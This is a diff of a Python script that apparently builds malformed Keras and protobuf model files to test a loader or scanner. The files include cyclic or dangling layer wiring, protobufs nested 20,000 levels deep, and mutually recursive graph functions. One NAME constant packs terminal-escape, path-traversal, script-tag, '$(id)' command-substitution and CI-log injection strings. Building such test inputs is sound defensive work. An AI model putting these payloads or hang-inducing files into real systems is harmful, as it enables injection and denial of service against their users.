+    with stored(path) as h5:
+        h5.attrs["model_config"] = json.dumps(root)
+
+
+def fed(name: str, *feeds: tuple[str, int]) -> Config:
+    """A Dense that is called on those layers' calls."""
+    nodes = [[[layer, call, 0, {}]] for layer, call in feeds]
+    return {**dense(name=name), "name": name, "inbound_nodes": nodes}
+
+
+@attack("wiring-circle.h5")
+def wiring_circle(path: Path, _: Bait) -> None:
+    functional(path, fed("a", ("b", 0)), fed("b", ("a", 0)))
+
+
+@attack("wiring-no-layer.h5")
+def wiring_no_layer(path: Path, _: Bait) -> None:
+    functional(path, fed("a", ("missing", 0)))
+
+
+@attack("wiring-no-call.h5")
+def wiring_no_call(path: Path, _: Bait) -> None:
+    """Keras waits for a call that never comes."""
+    functional(path, fed("a", ("i", 0)), fed("b", ("a", 7)))
+
+
+@attack("wiring-twice.h5")
+def wiring_twice(path: Path, _: Bait) -> None:
+    functional(path, fed("a", ("i", 0)), fed("a", ("i", 0)))
+
+
+@attack("wiring-own-model.h5")
+def wiring_own_model(path: Path, _: Bait) -> None:
+    """Nobody's attack: the calls of a model of one's own class, which Keras 2 counts from 1."""
+    inner = json.loads(legacy(dense()))["config"]
+    ends = {"input_layers": [["input", 0, 0]], "output_layers": [["dense", 0, 0]]}
+    inner["layers"][0] |= {"name": "input", "inbound_nodes": []}
+    inner["layers"][1] |= {"name": "dense", "inbound_nodes": [[["input", 0, 0, {}]]]}
+    own = {"class_name": "mine>Mine", "config": {**inner, **ends, "name": "own"}}
+    functional(
+        path,
+        {**own, "name": "own", "inbound_nodes": [[["i", 0, 0, {}]]]},
+        fed("a", ("own", 1)),
+    )
+
+
+def _keras3_functional(path: Path, history: list[Any]) -> None:
+    value = {"shape": [None, 4], "dtype": "float32", "keras_history": history}
+    tensor = {"class_name": "__keras_tensor__", "config": value}
+    first = keras3("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "i"})
+    layers = [
+        {**first, "name": "i", "inbound_nodes": []},
+        {
+            **keras3("Dense", {"name": "a", "units": 2}),
+            "name": "a",
+            "inbound_nodes": [{"args": [tensor], "kwargs": {}}],
+        },
+    ]
+    config = {"name": "m", "layers": layers, "input_layers": [["i", 0, 0]]}
+    root = keras3("Functional", {**config, "output_layers": [["a", 0, 0]]}, "keras")
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
+        archive.writestr("config.json", json.dumps(root))
+        archive.writestr("model.weights.h5", weights())
+
+
+@attack("wiring-no-call.keras")
+def wiring_no_call_3(path: Path, _: Bait) -> None:
+    _keras3_functional(path, ["i", 5, 0])
+
+
+@attack("wiring-no-tensor.keras")
+def wiring_no_tensor(path: Path, _: Bait) -> None:
+    """The call is there, but it gives no such tensor: only Keras can know."""
+    _keras3_functional(path, ["i", 0, 5])
+
+
+NAME = "a\x1b]0;x\x07/../<script>alert(1)</script>|`$(id)`\r\n::error::\u202e\u200b%0A::error::"
+
+
+@attack("names.h5")
 def names(path: Path, _: Bait) -> None:
     stored(path, {"class_name": NAME, "config": {"name": NAME}}, dense()).close()
 
 
-@attack("protobuf-deep.pb", None)
+@attack("names-dense.keras")
+def names_of_an_own_layer(path: Path, _: Bait) -> None:
+    """A layer that is rebuilt, if Keras takes the name."""
+    archived(path, keras3("Dense", {"name": NAME, "units": 2}))
+
+
+@attack("protobuf-deep.pb")
 def protobuf_deep(path: Path, _: Bait) -> None:
     data = b""
     for _level in range(20_000):
@@ -427,15 +842,30 @@ def protobuf_deep(path: Path, _: Bait) -> None:
     path.write_bytes(data)
 
 
-@attack("protobuf-size.pb", None)
+@attack("protobuf-size.pb")
 def protobuf_size(path: Path, _: Bait) -> None:
     path.write_bytes(
         field(1, field(1, b"x") + field(2, b"Const")) + b"\x0a\xff\xff\xff\xff\xff\x7f"
     )
 
 
+@attack("protobuf-functions.pb")
+def protobuf_functions(path: Path, _: Bait) -> None:
+    """Functions that call each other in a circle: whoever inlines them never ends."""
+    call = field(1, b"c") + field(2, b"PartitionedCall") + field(3, b"x")
+
+    def calls(name: bytes) -> bytes:
+        return call + _attribute("f", field(10, field(1, name)))
+
+    def definition(name: bytes, other: bytes) -> bytes:
+        return field(1, field(1, field(1, name)) + field(3, calls(other)))
+
+    library = field(2, definition(b"f", b"g") + definition(b"g", b"f"))
+    path.write_bytes(_node("x", "Placeholder", **_FLOATS) + field(1, calls(b"f")) + library)
+
+
 if __name__ == "__main__":
-    (folder,) = map(Path, sys.argv[1:])
-    folder.mkdir(parents=True, exist_ok=True)
-    for _made in make_all(Bait(folder, 9)).values():
-        print(_made)
+    (_folder,) = map(Path, sys.argv[1:])
+    _folder.mkdir(parents=True, exist_ok=True)
+    for _path, _bait in make_all(_folder, 9).values():
+        print(_path)
